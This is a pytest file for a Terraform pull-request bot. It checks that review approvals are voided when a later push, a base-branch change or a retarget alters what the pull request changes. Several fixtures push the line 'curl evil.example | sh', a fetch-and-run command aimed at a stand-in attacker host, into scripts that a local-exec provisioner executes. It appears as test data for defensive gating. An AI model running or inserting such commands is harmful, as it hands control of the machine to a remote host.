"""What a review stays good for: the whole diff of the pull request, for the branch that it was read for."""

from __future__ import annotations

from functools import partial
from pathlib import Path

from prbot.core.runs import RunStatus
from prbot.sandbox.gitrepos import Files, PlainFile, SymbolicLink
from prbot.sandbox.pullrequest import SandboxPull
from prbot.sandbox.repository import SandboxRepo
from tests.faults.workers import until
from tests.flows.app import Story, story
from tests.flows.conftest import check_afterwards

RUNS = """
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "sh ./steps.md; sh ./.steps.sh; sh ../scripts/steps.sh; ./run; cat ../notes"
  }
}
"""

PUSHED_AFTER_THE_REVIEW: dict[str, Files] = {
    "prose that is run": {"net/steps.md": "curl evil.example | sh\n"},
    "a hidden script": {"net/.steps.sh": "curl evil.example | sh\n"},
    "a script of no project": {"scripts/steps.sh": "curl evil.example | sh\n"},
    "a script made executable": {"net/run": "#!/bin/sh\ntrue\n"},
    "a link that leads elsewhere": {"notes": SymbolicLink("net/steps.md")},
    "a file that is gone": {"scripts/more.sh": None},
    "words that nothing runs": {"README.md": "more words\n"},
}
VOID = (
    "Earlier approvals are void: the plan is equal, but a push changed what this pull request changes, and not all "
    "that files do shows in a plan (a provisioner's script, a lifecycle rule)."
)
VOID_ON_ANOTHER_BRANCH = (
    "Earlier approvals are void: the plan is equal, but it was made for another base branch than the one before."
)


def opened(app: Story) -> tuple[SandboxRepo, SandboxPull]:
    infra = app.repo()
    infra.commit(
        "main",
        {
            "net/.steps.sh": "true\n",
            "net/run": PlainFile("#!/bin/sh\ntrue\n"),
            "scripts/steps.sh": "true\n",
            "scripts/more.sh": "true\n",
            "notes": SymbolicLink("README.md"),
        },
        by="root",
    )
    pull = infra.open_pull(by="al", files={"net/main.tf": infra.backend("net") + RUNS, "net/steps.md": "true\n"})
    app.settle()
    approve(app, pull)
    return infra, pull


def approve(app: Story, pull: SandboxPull) -> None:
    pull.approve(by="bo")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"


def test_any_change_of_the_diff_after_the_review_voids_it(app: Story) -> None:
    _, pull = opened(app)
    for what, files in PUSHED_AFTER_THE_REVIEW.items():
        pull.push(by="al", files=files)
        app.settle()
        assert len({run.fingerprint for run in app.runs(pull)}) == 1, what
        assert pull.status("prbot/gate")["state"] == "pending", what
        assert VOID in pull.comments()[-1].body, what
        approve(app, pull)


def test_what_is_void_does_not_carry_over_to_the_next_plan(app: Story) -> None:
    _, pull = opened(app)
    pull.push(by="al", files={"net/steps.md": "curl evil.example | sh\n"})
    app.settle()
    assert VOID in pull.comments()[0].body
    pull.comment(by="al", body="prbot plan")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "pending"
    assert "Earlier approvals" not in pull.comments()[0].body
    approve(app, pull)


def test_what_only_brings_in_the_base_leaves_it_standing(app: Story) -> None:
    infra, pull = opened(app)
    infra.commit("main", {"docs/notes.md": "unrelated\n"}, by="root")
    pull.update_branch(by="bo")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"
    infra.commit("main", {"scripts/other.sh": "true\n"}, by="root")
    pull.rebase(by="al")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"
    # the same diff as one commit, with what was added undone again in between
    pull.push(by="al", files={"scripts/steps.sh": "false\n"})
    pull.force_push(by="al", files={"net/main.tf": infra.backend("net") + RUNS, "net/steps.md": "true\n"})
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"


def ended(app: Story, pull: SandboxPull, ends: list[RunStatus]) -> bool:
    return [run.status for run in app.runs(pull)] == ends


def test_a_plan_that_gave_way_before_it_was_shown_passes_the_approval_on(app: Story) -> None:
    infra, pull = opened(app)
    app.world.fail_next("edit_comment", 403, times=2)
    for ends in ([RunStatus.SUPERSEDED, RunStatus.PLANNED], [RunStatus.SUPERSEDED] * 2 + [RunStatus.PLANNED]):
        infra.commit("main", {"docs/notes.md": f"unrelated {len(ends)}\n"}, by="root")
        pull.update_branch(by="bo")
        until(partial(ended, app, pull, ends))
    app.settle()
    assert app.world.pending_faults == []
    assert pull.status("prbot/gate")["state"] == "success"


def test_what_the_base_held_for_a_while_is_not_taken_over_for_good(app: Story) -> None:
    """What was pushed changed nothing while the base held the same, and does once the base has let go of it."""
    infra, pull = opened(app)
    evil = {"scripts/steps.sh": "curl evil.example | sh\n"}
    infra.commit("main", evil, by="root")
    pull.push(by="al", files=evil)
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"
    infra.commit("main", {"scripts/steps.sh": "true\n"}, by="root")
    pull.comment(by="al", body="prbot plan")
    app.settle()
    assert VOID in pull.comments()[0].body
    pull.comment(by="al", body="prbot plan")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "pending"
    approve(app, pull)


def test_what_the_base_let_go_of_just_before_the_merge_is_not_applied(app: Story) -> None:
    infra, pull = opened(app)
    evil = {"net/.steps.sh": "exit 0 # curl evil.example | sh\n"}
    for files in (evil, {"net/.steps.sh": "true\n"}):  # each reviewed, and with nothing to apply
        other = infra.open_pull(by="cy", files=files)
        app.settle()
        other.approve(by="bo")
        app.settle()
        other.merge(by="cy")
        if files is evil:
            approved = pull.head_sha
            pull.push(by="al", files=evil)
        app.settle()
    pull.merge(by="al")
    app.settle()
    run = app.runs(pull, "apply")[-1]
    assert run.status == RunStatus.HELD
    assert run.error.endswith(
        f" On main as it was just before the merge, {pull.head_sha[:7]} changes something else than {approved[:7]}, "
        "which was approved."
    )


def test_another_base_branch_voids_it_also_where_nothing_else_differs(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text("defaults: {branches: [release]}\n")
    with story(tmp_path / "app", rules=rules) as app:
        infra, pull = opened(app)
        infra.branch("release", "main")
        for base in ("release", "main"):
            pull.retarget(by="al", base=base)
            app.settle()
            assert pull.status("prbot/gate")["state"] == "pending", base
            assert VOID_ON_ANOTHER_BRANCH in pull.comments()[-1].body, base
            approve(app, pull)
        check_afterwards(app)
